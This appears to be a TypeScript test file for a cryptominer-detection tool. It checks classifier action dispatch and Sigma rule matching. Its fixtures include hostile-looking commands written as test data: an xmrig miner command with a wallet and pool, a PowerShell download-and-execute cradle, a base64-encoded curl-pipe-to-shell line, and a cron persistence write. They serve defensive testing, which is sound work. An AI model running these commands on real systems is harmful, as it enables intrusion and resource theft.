/**
 * The dispatch runs a classifier only on the actions it names (`Classifier.actions`): a classifier that
 * reads an action it does not name would lose its evidence there without a sound. Each classifier's own
 * evidence-making event is relabelled with every other action, and every classifier that names
 * actions must then say nothing.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { CoalEvent, EventAction } from '../model/event.js';
import type { Signal } from '../model/signal.js';
import { classifiers, createClassifier } from './index.js';
import { matchRules, type RuleMatch } from './rules.js';
import { loadRules } from './sigma/index.js';
import { evt, signalsOf, testIntel } from './test-events.js';

const ACTIONS: EventAction[] = [
  'exec',
  'process-seen',
  'exit',
  'connect',
  'listen',
  'dns-query',
  'kill',
  'file-write',
  'persistence-entry',
  'driver-load',
  'registry-set',
  'metric',
  'workload-change',
  'container-seen',
  'cloud-change',
  'log-record',
];
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const MINER_LINE = `/tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET} --donate-level 1`;
const stratumLines = [
  { id: 1, method: 'mining.subscribe', params: ['cgminer/4.10.0'] },
  { id: 2, method: 'mining.authorize', params: ['rig01', 'x'] },
]
  .map((m) => `${JSON.stringify(m)}\\x0a`)
  .join('');

/** Per classifier, an event of its own action it makes evidence of. */
const DONORS: Record<string, CoalEvent> = {
  process: evt('exec', {
    process: { pid: 9, name: 'kdevtmpfsi', executable: '/tmp/kdevtmpfsi', command_line: MINER_LINE },
  }),
  network: evt('dns-query', { dns: { question: { name: 'xmr-eu1.nanopool.org' } } }),
  'named-destination': evt('connect', {
    process: { pid: 1, name: 'kdevtmpfsi', command_line: MINER_LINE },
    destination: { ip: '198.51.100.23', port: 3333 },
  }),
  persistence: evt('file-write', {
    process: { pid: 5, name: 'crontab' },
    file: { path: '/var/spool/cron/crontabs/redis' },
  }),
  kill: evt('kill', { process: { pid: 4110, name: 'pkill', target: { pid: 3377, name: 'xmrig', signal: 9 } } }),
  powershell: evt('exec', {
    process: {
      pid: 3,
      name: 'sh',
      command_line: 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"',
    },
  }),
  'shell-decode': evt('exec', {
    process: { pid: 4, name: 'sh', command_line: 'echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYSB8IHNo | base64 -d | sh' },
  }),
  windows: evt('driver-load', {
    host: { name: 'ws-07', os: { platform: 'windows' } },
    file: { path: 'C:\\Users\\bob\\AppData\\Local\\Temp\\WinRing0x64.sys', name: 'WinRing0x64.sys', signed: false },
  }),
  stratum: (() => {
    const e = evt('connect', { destination: { ip: '203.0.113.9', port: 3333 }, network: { transport: 'tcp' } });
    return { ...e, coalmine: { ...e.coalmine, format: 'pcap', flow: { clientPayload: stratumLines } } };
  })(),
  workload: evt('workload-change', {
    host: { name: 'k8s-api' },
    orchestrator: { namespace: 'kube-system', resource: { type: 'daemonset', name: 'kube-netmon' } },
    coalmine: {
      ts: 1,
      format: 'k8s-audit',
      ref: { file: 'audit.log', line: 2 },
      workload: {
        verb: 'create',
        kind: 'DaemonSet',
        name: 'kube-netmon',
        namespace: 'kube-system',
        containers: [{ name: 'app', image: 'docker.io/metal3d/xmrig:latest' }],
      },
    },
  }),
  cloud: (() => {
    const e = evt('cloud-change', { host: { name: 'aws:123456789012' } });
    return {
      ...e,
      coalmine: {
        ...e.coalmine,
        format: 'cloudtrail',
        cloud: {
          provider: 'aws',
          account: '123456789012',
          operation: 'RunTask',
          containers: [{ name: 'app', image: 'metal3d/xmrig:latest' }],
        },
      },
    };
  })(),
};

test('every classifier that names its actions makes evidence of its own event and of no other action', () => {
  const named = classifiers.filter((c) => c.actions !== undefined);
  assert.ok(named.length >= 10);
  for (const c of named) {
    const donor = DONORS[c.name];
    assert.ok(donor, `${c.name} needs an event it makes evidence of`);
    assert.ok(signalsOf(c, donor).length > 0, `${c.name} makes evidence of its own event`);
  }
  for (const donor of Object.values(DONORS))
    for (const action of ACTIONS) {
      const relabelled: CoalEvent = { ...donor, event: { ...donor.event, action } };
      for (const c of named)
        if (!c.actions?.includes(action))
          assert.deepEqual(signalsOf(c, relabelled), [], `${c.name} on ${action} (${donor.event.action}'s fields)`);
    }
});

test('the dispatch keeps a bounded list per action: a file of endless made-up actions still runs the rest', async () => {
  const classify = createClassifier(testIntel(), await loadRules([]));
  const out: Signal[] = [];
  for (let i = 0; i < 2000; i++) {
    const e = evt('exec', {});
    classify({ ...e, event: { ...e.event, action: `made-up-${i}` as EventAction } }, out);
  }
  assert.equal(out.length, 0);
  classify(DONORS.process, out);
  assert.ok(out.some((s) => s.by === 'process:miner-name'));
});

test('rules reading every action of a format still see actions no rule is indexed under, whatever came first', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'coalmine-dispatch-'));
  try {
    writeFileSync(
      join(dir, 'trail.yml'),
      'title: trail stopped\nid: test-trail-stopped\nstatus: test\nlogsource: { product: aws, service: cloudtrail }\ndetection:\n  selection: { eventName: StopLogging }\n  condition: selection\nlevel: high\n',
    );
    writeFileSync(
      join(dir, 'exec.yml'),
      'title: xmrig run\nid: test-xmrig-run\nstatus: test\nlogsource: { product: linux, category: process_creation }\ndetection:\n  selection: { CommandLine|contains: xmrig }\n  condition: selection\nlevel: high\n',
    );
    const rules = await loadRules([dir]);
    assert.deepEqual(rules.errors, []);
    const ids = (e: CoalEvent) => {
      const found: RuleMatch[] = [];
      matchRules(rules, e, found);
      return found.map((m) => m.id);
    };
    const record = (action: EventAction, format: string) => {
      const e = evt(action, { original: { eventName: 'StopLogging' } });
      return { ...e, coalmine: { ...e.coalmine, format } };
    };
    assert.deepEqual(ids(record('metric', 'ndjson')), []);
    assert.deepEqual(ids(record('log-record', 'ndjson')), []);
    assert.deepEqual(ids(record('log-record', 'cloudtrail')), ['test-trail-stopped']);
    assert.deepEqual(ids(record('metric', 'cloudtrail')), ['test-trail-stopped']);
    assert.deepEqual(ids(record('metric', 'ndjson')), []);
    const exec = evt('exec', { process: { pid: 1, command_line: '/tmp/xmrig -o x' } });
    assert.deepEqual(ids(exec), ['test-xmrig-run']);
    assert.deepEqual(ids({ ...exec, host: { name: 'ws', os: { platform: 'windows' } } }), []);
    assert.deepEqual(ids(exec), ['test-xmrig-run']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
